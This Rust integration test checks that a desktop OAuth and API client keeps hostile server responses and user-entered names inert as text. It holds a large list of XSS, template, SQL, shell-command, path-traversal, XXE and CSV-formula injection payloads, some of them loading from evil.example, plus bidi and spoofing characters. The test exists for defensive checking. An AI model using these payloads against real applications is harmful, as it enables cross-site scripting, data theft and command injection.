//! Text that wants to be more than text, through every place where the window shows what others wrote.
//!
//! A server says it: as refusal, as token with claims and scopes, as headers and as bodies. People type it: as names.
//! Afterwards no script has run or tried to, no element has come out of a text, and the window is no wider than its frame.

use crate::locked::invoke;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderName, HeaderValue, Response};
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use tests::app::{App, starts};
use tests::desktop::Desktop;

/// What a harmless server says in place of each.
const HARMLESS: &str = "a harmless text";

/// Markup and code: `window.ran = 1` tells that it worked. One a line.
const MARKUP: &str = r#"<script>window.ran=1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>window.ran=1</scr</script>ipt>
<script/src=data:,window.ran=1></script>
"><script>window.ran=1</script>
'><script>window.ran=1</script>
</title><script>window.ran=1</script>
</textarea><script>window.ran=1</script>
</style><script>window.ran=1</script>
</script><script>window.ran=1</script>
--><script>window.ran=1</script>
]]><script>window.ran=1</script>
<!--><img src=x onerror=window.ran=1>-->
<img src=x onerror=window.ran=1>
<img src=x onerror="window.ran=1">
<img/src=x/onerror=window.ran=1>
<img src=`x` onerror=window.ran=1>
<IMG """><SCRIPT>window.ran=1</SCRIPT>">
<img src=javascript:window.ran=1>
<image href=x onerror=window.ran=1>
<svg onload=window.ran=1>
<svg/onload=window.ran=1//
<svg><script>window.ran=1</script></svg>
<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>
<svg><a xlink:href=javascript:window.ran=1><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x">
<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>
<math href=javascript:window.ran=1>x</math>
<iframe src=javascript:window.ran=1></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<object data=javascript:window.ran=1></object>
<embed src=javascript:window.ran=1>
<video><source onerror=window.ran=1></video>
<audio src=x onerror=window.ran=1>
<body onload=window.ran=1>
<input autofocus onfocus=window.ran=1>
<select autofocus onfocus=window.ran=1>
<details open ontoggle=window.ran=1>
<marquee onstart=window.ran=1>
<form action=javascript:window.ran=1><input type=submit>
<button formaction=javascript:window.ran=1>x
<isindex type=image src=1 onerror=window.ran=1>
<a href=javascript:window.ran=1>click</a>
<a href="&#106;avascript:window.ran=1">click</a>
<a href="java&#10;script:window.ran=1">click</a>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<meta http-equiv=refresh content="0;url=//evil.example">
<style>*{display:none}</style>
<style>@import '//evil.example/x.css';</style>
<div style="position:fixed;inset:0;background:red">gone</div>
<div style=width:expression(window.ran=1)>
<table background=javascript:window.ran=1>
<template><script>window.ran=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>">
<xmp><script>window.ran=1</script></xmp>
<plaintext>
<textarea>
<dialog open>gone</dialog>
<slot name=x>
<custom-element onclick=window.ran=1>
<x contenteditable onblur=window.ran=1>
javascript:window.ran=1
JaVaScRiPt:window.ran=1
data:text/html,<script>window.ran=1</script>
vbscript:msgbox(1)
&lt;script&gt;window.ran=1&lt;/script&gt;
&#60;script&#62;window.ran=1&#60;/script&#62;
%3Cscript%3Ewindow.ran=1%3C/script%3E
\u003cscript\u003ewindow.ran=1\u003c/script\u003e
\x3cscript\x3ewindow.ran=1
<%00script>window.ran=1</script>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.ran=1</script></x>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>
${window.ran=1}
`${window.ran=1}`
{{window.ran=1}}
{{constructor.constructor('window.ran=1')()}}
{{7*7}}
#{7*7}
<%= 7*7 %>
{%7*7%}
[[${7*7}]]
@(1+1)
$(touch /tmp/x)
`touch /tmp/x`
; touch /tmp/x
| touch /tmp/x
&& touch /tmp/x
'; window.ran=1; //
"; window.ran=1; //
\"; window.ran=1; //
'-window.ran=1-'
");window.ran=1;//
onerror=window.ran=1
" onmouseover="window.ran=1
' onfocus='window.ran=1' autofocus='
" style="position:fixed;inset:0
" autofocus onfocus="window.ran=1" x="
?lit$123$
<!--?lit$123456789$-->
{{lit-1}}
<!--lit-part-->
$lit$
.innerHTML=window.ran=1
@click=${window.ran=1}
__proto__
constructor
prototype
toString
hasOwnProperty
{"__proto__":{"polluted":1}}
'; DROP TABLE tokens; --
' OR '1'='1
../../../../etc/passwd
..\..\windows\win.ini
file:///etc/passwd
\\evil.example\share
%s%s%s%n%n%n
{0}{1}{2}
null
undefined
NaN
[object Object]
true
-1
1e999
=cmd|' /C calc'!A0
+1+1
@SUM(1+1)
http://evil.example/
https://acme.kinde.com@evil.example/
mailto:x@evil.example?subject=x
:root{--x:url(//evil.example)}
*{color:red}
url(javascript:window.ran=1)
expression(window.ran=1)
@import url(//evil.example)
</div></main></body></html>
<div><div><div><div>
<b>bold</b>
<h1>Your token has been stolen. Call 0800 000</h1>"#;

/// Characters that act on the reader or the screen.
const CHARACTERS: [&str; 34] = [
    "\u{202e}gnp.exe",
    "safe\u{202e}txt.exe\u{202c}",
    "\u{2066}isolate\u{2069}\u{2067}isolate",
    "\u{202a}\u{202b}\u{202d}nested",
    "\u{200f}\u{200e}\u{061c}marks",
    "zero\u{200b}width\u{200c}\u{200d}\u{2060}\u{feff}",
    "soft\u{00ad}hyphen",
    "аdmin (in another script)",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "\u{0}NUL\u{0}",
    "bell\u{7}back\u{8}form\u{c}vertical\u{b}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mC1",
    "line\nbreak",
    "carriage\rreturn",
    "both\r\nSet-Cookie: x=1",
    "tab\tand\u{2028}separators\u{2029}",
    "\u{85}next line",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}\u{fdfd}",
    "𒐫𒐫𒐫𒐫𒐫𒐫𒐫𒐫",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏿",
    "العربية مع English وأرقام 123",
    "עברית \u{202e}english",
    "\u{e0041}\u{e0042}tags",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "\u{10ffff}\u{f8ff}private",
    "I\u{307}İıßẞ",
    "\u{1d173}\u{1d174}music",
    "\u{3164}\u{115f}\u{1160}filler",
    "\u{2800}\u{2800}\u{2800}blank",
];

/// Every hostile string, one of them huge, one without any place to break a line.
fn hostile() -> Vec<String> {
    let mut all: Vec<String> = MARKUP.lines().map(str::to_owned).collect();
    all.extend(CHARACTERS.map(str::to_owned));
    all.push("W".repeat(600));
    all.push("<b>huge</b> ".repeat(400));
    all.push("\u{202e}".repeat(300));
    all.push(String::new());
    all.push(" ".to_owned());
    assert!(all.len() >= 150, "{}", all.len());
    all
}

/// What the server is about to say.
#[derive(Default)]
struct Script {
    origin: String,
    /// The texts of its next refusal; empty: it issues a token.
    refusal: Vec<String>,
    /// The texts of its token, its headers and its bodies.
    texts: Vec<String>,
    /// The kind of its next body.
    content: &'static str,
}

struct Server {
    script: Arc<Mutex<Script>>,
    origin: String,
}

impl Server {
    async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let origin = format!("http://{}", listener.local_addr().unwrap());
        let script = Arc::new(Mutex::new(Script { origin: origin.clone(), ..Script::default() }));
        let router = axum::Router::new().fallback(answer).with_state(script.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Self { script, origin }
    }

    fn change(&self, change: impl FnOnce(&mut Script)) {
        change(&mut self.script.lock().unwrap());
    }
}

async fn answer(State(script): State<Arc<Mutex<Script>>>, request: Request) -> Response<Body> {
    let script = script.lock().unwrap();
    let json = |status: u16, value: &Value| {
        let builder = Response::builder().status(status).header("content-type", "application/json");
        builder.body(Body::from(value.to_string())).unwrap()
    };
    match request.uri().path() {
        "/oauth2/token" if !script.refusal.is_empty() => {
            let all = script.refusal.join(" · ");
            json(
                400,
                &json!({ "error": script.refusal[0], "error_description": all, "error_uri": all, "message": all, all.as_str(): 1 }),
            )
        }
        "/oauth2/token" => json(
            200,
            &json!({ "access_token": token(&script), "token_type": "bearer", "expires_in": 3600, "scope": script.texts.join(" ") }),
        ),
        path if path.contains("jwks") => {
            let keys: Vec<Value> = script
                .texts
                .iter()
                .map(|text| json!({ "kty": "RSA", "kid": text, "alg": text, "use": text }))
                .collect();
            json(200, &json!({ "keys": keys }))
        }
        path if path.contains("well-known") => json(404, &json!({})),
        _ => {
            let mut builder = Response::builder().status(if script.content == "text/html" { 500 } else { 200 });
            // At most 100 headers are read: another part of the texts with each kind of body.
            for (number, text) in
                script.texts.iter().enumerate().filter(|(number, _)| number % 4 == script.content.len() % 4)
            {
                if let (Ok(name), Ok(value)) =
                    (HeaderName::from_bytes(format!("x-{number}").as_bytes()), HeaderValue::from_bytes(text.as_bytes()))
                {
                    builder = builder.header(name, value);
                }
            }
            let list: serde_json::Map<String, Value> =
                script.texts.iter().map(|text| (text.clone(), json!([text]))).collect();
            let body = match script.content {
                "application/json" => Value::Object(list).to_string(),
                // With a NUL it would count as binary, and nothing of it would be shown.
                _ => script.texts.join("\n").replace('\0', "␀"),
            };
            builder.header("content-type", script.content).body(Body::from(body)).unwrap()
        }
    }
}

/// A token that nobody signed, of hostile header and claims. The window shows it, and says that it is not to be trusted.
fn token(script: &Script) -> String {
    let now = crate::bench::now();
    let mut claims = json!({
        "iss": script.origin, "aud": [format!("{}/api", script.origin)], "exp": now + 3600, "iat": now,
        "gty": ["client_credentials"], "scope": script.texts.join(" "), "jti": script.texts.first(),
    });
    let claims_object = claims.as_object_mut().unwrap();
    for (number, text) in script.texts.iter().enumerate() {
        claims_object.insert(format!("c{number}"), json!(text));
        // Names that no rule knows are texts from outside, too.
        claims_object.entry(text.clone()).or_insert(json!(number));
    }
    let header = json!({ "alg": "RS256", "typ": "JWT", "kid": script.texts.get(5), "x": script.texts.get(13) });
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}.{}", part(&header), part(&claims), URL_SAFE_NO_PAD.encode("no signature"))
}

/// In the page: watches for scripts and for what the content policy had to stop.
const WATCH: &str = "
  window.stopped = [];
  addEventListener('securitypolicyviolation', event => window.stopped.push(event.violatedDirective + ' ' + event.sample));
  for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => { window.ran = name; };";

/// Opens everything that can be opened, so that all text is on the screen; words explained are our own text and would cover it.
const UNFOLD: &str = "
  const main = document.querySelector('main') ?? document.body;
  for (let round = 0; round < 3; round++) {
    for (const button of main.querySelectorAll('button[aria-expanded=false]:not([popovertarget])')) button.click();
    for (const details of main.querySelectorAll('details:not([open])')) details.open = true;
  }";

/// What is wrong with the page now, as a list of sentences; and the elements that could do something, counted.
const LOOK: &str = r#"
  const wrong = [];
  if (window.ran !== undefined) wrong.push('a script ran: ' + window.ran);
  if (({}).polluted !== undefined) wrong.push('Object.prototype is polluted');
  for (const stop of window.stopped) wrong.push('the content policy had to stop ' + stop);
  const acting = {};
  const tags = new Set();
  for (const element of document.querySelectorAll('*')) {
    const tag = element.localName;
    tags.add(tag);
    if (['script','iframe','object','embed','img','image','video','audio','source','form','base','link','meta','style','template','noscript',
         'math','animate','use','marquee','a','textarea','slot','title','body','html','head','main'].includes(tag)) acting[tag] = (acting[tag] ?? 0) + 1;
    for (const { name, value } of element.attributes) {
      // The viewer of bodies places its lines by script.
      if (name === 'style' && element.closest('body-viewer, body-tree') && /^((--lines|--digits|height|transform): (\d+(px|ch)|translateY\(-?[\d.]+px\)); ?)+$/.test(value)) continue;
      if (/^on/i.test(name) || name === 'style' || name === 'srcdoc' || name === 'formaction') wrong.push(`<${tag} ${name}=${value.slice(0, 60)}>`);
      if (/^(href|src|action|xlink:href|data)$/.test(name) && /^\s*(javascript|data|vbscript|file|https?:\/\/(?!127))/i.test(value)) wrong.push(`<${tag} ${name}=${value.slice(0, 60)}>`);
    }
  }
  const frame = document.documentElement;
  if (frame.scrollWidth > frame.clientWidth) wrong.push(`the page is ${frame.scrollWidth} wide in a frame of ${frame.clientWidth}`);
  // Whatever scrolls sideways by itself may hold wide things; nothing else may stick out.
  const scrolls = element => { for (let at = element; at; at = at.parentElement) { const x = getComputedStyle(at).overflowX; if (x === 'auto' || x === 'scroll' || x === 'hidden' || x === 'clip') return true; } return false; };
  for (const element of document.body.querySelectorAll('*')) {
    const box = element.getBoundingClientRect();
    if (box.width && box.right > frame.clientWidth + 1 && element.checkVisibility() && !scrolls(element.parentElement)) {
      wrong.push(`<${element.localName} class="${element.getAttribute('class') ?? ''}"> ends at ${Math.round(box.right)}: ${element.textContent.slice(0, 40)}`);
    }
  }
  return { wrong: wrong.slice(0, 20), acting, tags: [...tags].sort() };"#;

/// A look at one place, with what it was that the server said.
struct Look {
    place: String,
    acting: Value,
    tags: Vec<String>,
}

async fn look(app: &App, place: &str, looks: &mut Vec<Look>) {
    app.execute(UNFOLD, vec![]).await;
    app.idle().await;
    let seen = app.execute(LOOK, vec![]).await;
    if seen["wrong"] != json!([]) {
        let picture = app.screenshot(&format!("hostile-{}", place.replace([' ', '/', ';', ','], "-"))).await;
        panic!("{place}: {:#} ({})", seen["wrong"], picture.display());
    }
    looks.push(Look {
        place: place.to_owned(),
        acting: seen["acting"].clone(),
        tags: serde_json::from_value(seen["tags"].clone()).unwrap(),
    });
}

/// Types into a field for searching.
const SEARCH: &str = "const [field, text] = arguments, search = document.querySelector(field);
  search.value = text; search.dispatchEvent(new Event('input', { bubbles: true }));";

/// The answer on the screen as a tree: all of it opened, looked through, searched.
async fn tree(app: &App, looks: &mut Vec<Look>) {
    let press = "[...document.querySelectorAll('.body-part button')].find(button => button.textContent.includes(arguments[0])).click()";
    app.execute(press, vec![json!("Tree")]).await;
    app.until("the tree", "return document.querySelectorAll('[role=treeitem]').length > 1", Value::Null).await;
    app.execute(press, vec![json!("Open all")]).await;
    for step in 0..12 {
        app.execute(
            "document.querySelector('body-tree .body-scroll').scrollTop = arguments[0] * 400",
            vec![json!(step)],
        )
        .await;
        app.idle().await;
        // The row the keyboard is at tells its path.
        app.execute("document.querySelectorAll('[role=treeitem]')[3]?.click()", vec![]).await;
        app.idle().await;
        look(app, &format!("tree {step}"), looks).await;
    }
    app.execute(SEARCH, vec![json!("#body-search"), json!("a")]).await;
    app.idle().await;
    look(app, "tree searched", looks).await;
    app.execute(SEARCH, vec![json!("#body-search"), json!("")]).await;
    app.execute(press, vec![json!("Pretty")]).await;
    app.idle().await;
}

/// Every place once, with a server that says `texts`.
async fn walk(texts: &[String]) -> Vec<Look> {
    let server = Server::start().await;
    let mut app = App::open(Desktop::start()).await;
    app.driver().set_window_size(880, 600).await.unwrap();
    app.execute(WATCH, vec![]).await;
    let mut looks = Vec::new();
    // What is looked for would be seen.
    let planted = "document.body.insertAdjacentElement('beforeend', Object.assign(document.createElement('a'), { id: 'planted', href: 'javascript:void 0' }));";
    app.execute(planted, vec![]).await;
    assert_eq!(app.execute(LOOK, vec![]).await["wrong"].as_array().map(Vec::len), Some(1));
    app.execute("document.querySelector('#planted').remove()", vec![]).await;

    // Refusals: some texts at a time, so that a text that is cut short hides no other for good.
    app.click("button", "Connect").await;
    app.fill("Kinde domain", &server.origin).await;
    app.fill("Client ID", "client!+ID").await;
    app.fill("Client secret", "SECRET?%G&client").await;
    server.change(|script| script.refusal = texts[..1].to_vec());
    app.click("button", "Save and continue").await;
    app.click("button", starts("Get token")).await;
    app.see("button", starts("Try again")).await;
    for (number, chunk) in texts.chunks(16).enumerate() {
        server.change(|script| script.refusal = chunk.to_vec());
        app.click("button", starts("Try again")).await;
        app.idle().await;
        look(&app, &format!("refusal {number}"), &mut looks).await;
    }

    // A token: its claims, its scopes, the keys that do not fit it.
    server.change(|script| {
        script.refusal.clear();
        script.texts = texts.to_vec();
    });
    app.click("button", starts("Try again")).await;
    app.read("c0").await;
    look(&app, "claims", &mut looks).await;
    app.click("tab", starts("Token")).await;
    look(&app, "token", &mut looks).await;

    // Answers of an API.
    for content in ["application/json", "text/html", "text/plain; x=1", "image/svg+xml; y=1"] {
        server.change(|script| script.content = content);
        app.click("tab", starts("Call")).await;
        app.see("field", "Address").await;
        app.execute(
            "const url = document.querySelector('#call-url'); url.value = arguments[0]; url.dispatchEvent(new Event('input', { bubbles: true }))",
            vec![json!(format!("{}/api/v1/{}", server.origin, content.replace(['/', ';', ' '], "-")))],
        )
        .await;
        app.idle().await;
        app.execute("document.querySelector('#send-call').click()", vec![]).await;
        let status = if content == "text/html" { "500" } else { "200" };
        app.until("an answer", "return !!document.querySelector('body-viewer') && document.querySelector('#response-title').textContent.includes(arguments[0])", json!(status)).await;
        app.idle().await;
        look(&app, &format!("answer {content}"), &mut looks).await;
        // Only the lines in view are drawn: see them all.
        for step in 0..8 {
            app.execute(
                "for (const box of document.querySelectorAll('.body-scroll')) box.scrollTop = arguments[0] * 600",
                vec![json!(step)],
            )
            .await;
            app.idle().await;
            look(&app, &format!("answer {content}, lower {step}"), &mut looks).await;
        }
        if content == "application/json" {
            tree(&app, &mut looks).await;
        }
    }

    // All of it once more, as it was kept.
    app.execute("document.querySelector('#room-history').click()", vec![]).await;
    app.until("the history", "return document.querySelectorAll('.history-row').length > 10", Value::Null).await;
    look(&app, "history", &mut looks).await;
    let rows = app.execute("return document.querySelectorAll('.history-row').length", vec![]).await.as_u64().unwrap();
    for row in (0..rows).step_by(3) {
        let open = "const row = document.querySelectorAll('.history-row')[arguments[0]]; if (row.getAttribute('aria-expanded') === 'false') row.click()";
        app.execute(open, vec![json!(row)]).await;
        app.idle().await;
        look(&app, &format!("history {row}"), &mut looks).await;
    }
    app.execute(SEARCH, vec![json!("#history-search"), json!("<script>")]).await;
    look(&app, "history searched", &mut looks).await;

    // Names that people give. What is refused is refused in words; the rest is shown.
    let mut kept = 0;
    for (number, text) in texts.iter().enumerate().filter(|(number, _)| number % 5 == 0) {
        let draft = json!({
            "name": text, "colour": null, "production": number % 2 == 0, "provider": "kinde", "host": server.origin, "issuer": "",
            "tokenEndpoint": "", "jwksUri": "", "clientId": format!("client-{number}"), "authentication": "client_secret_post", "expectedOrgCode": "",
        });
        let made = invoke(
            &app,
            "create_environment",
            json!({ "args": { "draft": draft, "secret": "SECRET?%G", "cleanSecret": false, "noteId": null } }),
        )
        .await;
        let made = match made {
            Ok(made) => made,
            Err(refusal) => {
                assert!(refusal.contains("\"field\":\"name\""), "{text:?}: {refusal}");
                continue;
            }
        };
        kept += 1;
        let id = made["id"]
            .as_str()
            .or(made["environment"]["id"].as_str())
            .unwrap_or_else(|| panic!("no id: {made}"))
            .to_owned();
        let api = json!({ "audience": format!("https://orders.example/{number}"), "name": text, "scopes": ["read:orders"], "baseUrl": "" });
        let _ =
            invoke(&app, "save_api", json!({ "args": { "environmentId": id, "api": api, "previousAudience": null } }))
                .await;
    }
    assert!(kept > texts.len() / 8, "hardly a name was kept: {kept}");
    // The window as it is at the next start, with all of them.
    app.driver().refresh().await.unwrap();
    app.until("the names", "return document.querySelectorAll('.rail-item').length > arguments[0]", json!(kept)).await;
    app.execute(WATCH, vec![]).await;
    look(&app, "names", &mut looks).await;
    let items = app.execute("return document.querySelectorAll('.rail-item').length", vec![]).await.as_u64().unwrap();
    for at in (0..items).step_by(4) {
        app.execute("document.querySelectorAll('.rail-item')[arguments[0]].click()", vec![json!(at)]).await;
        app.idle().await;
        look(&app, &format!("environment {at}"), &mut looks).await;
    }
    assert!(!app.desktop().printed("app.err").contains("internal fault"), "{}", app.desktop().printed("app.err"));
    looks
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_stays_text_in_every_place() {
    let hostile = hostile();
    let harmless = vec![HARMLESS.to_owned(); hostile.len()];
    let (shown, plain) = tokio::join!(walk(&hostile), walk(&harmless));
    // No place holds an element that its harmless twin does not: nothing came out of a text.
    let known: std::collections::BTreeSet<&String> = plain.iter().flat_map(|look| &look.tags).collect();
    for look in &shown {
        // What makes a deceptive character visible.
        let ours = [
            "mark", "bdi", "wbr", "span", "code", "abbr", "svg", "path", "circle", "ul", "li", "p", "strong", "dl",
            "dt", "dd",
        ];
        let new: Vec<&String> =
            look.tags.iter().filter(|tag| !known.contains(tag) && !ours.contains(&tag.as_str())).collect();
        assert!(new.is_empty(), "{}: new elements {new:?}", look.place);
        if let Some(twin) = plain.iter().find(|twin| twin.place == look.place) {
            assert_eq!(look.acting, twin.acting, "{}", look.place);
        }
    }
    println!("{} hostile texts, {} looks, no script, no element, nothing sticks out", hostile.len(), shown.len());
}
